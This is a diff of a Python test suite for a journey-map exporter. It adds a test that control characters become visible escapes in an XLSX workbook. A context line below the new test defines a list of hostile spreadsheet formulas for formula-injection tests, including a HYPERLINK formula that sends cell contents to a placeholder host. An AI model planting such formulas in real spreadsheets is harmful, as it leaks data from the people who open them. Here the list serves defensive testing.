@@ -128,6 +128,26 @@ def test_export_never_replaces_its_input(tmp_path: Path) -> None:
     assert source.read_bytes() == (EXAMPLES / "first-purchase.yaml").read_bytes()
 
 
+def test_control_characters_become_visible_escapes_in_a_workbook(tmp_path: Path) -> None:
+    """XLSX cannot hold control characters (found by the fuzz campaign: an ANSI colour code in a name)."""
+    source = tmp_path / "j.yaml"
+    source.write_text(
+        "version: 1\njourney: {title: T}\npersonas: [{id: p, name: P}]\nstages:\n  - id: purchase\n"
+        '    name: Purchase\n    touchpoints:\n      - {id: t, name: "Roses \\e[31mred", channel: web}\n',
+        encoding="utf-8",
+    )
+    target = tmp_path / "t.xlsx"
+    result = run_cli("export", source, "-o", target)
+    assert_no_traceback(result)
+    assert result.code == 0, result.output
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(target).active
+    assert sheet is not None
+    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "Roses \\u001b[31mred" in cells
+
+
 # -- formula injection --------------------------------------------------------------------------------
 
 HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "'=already quoted"]
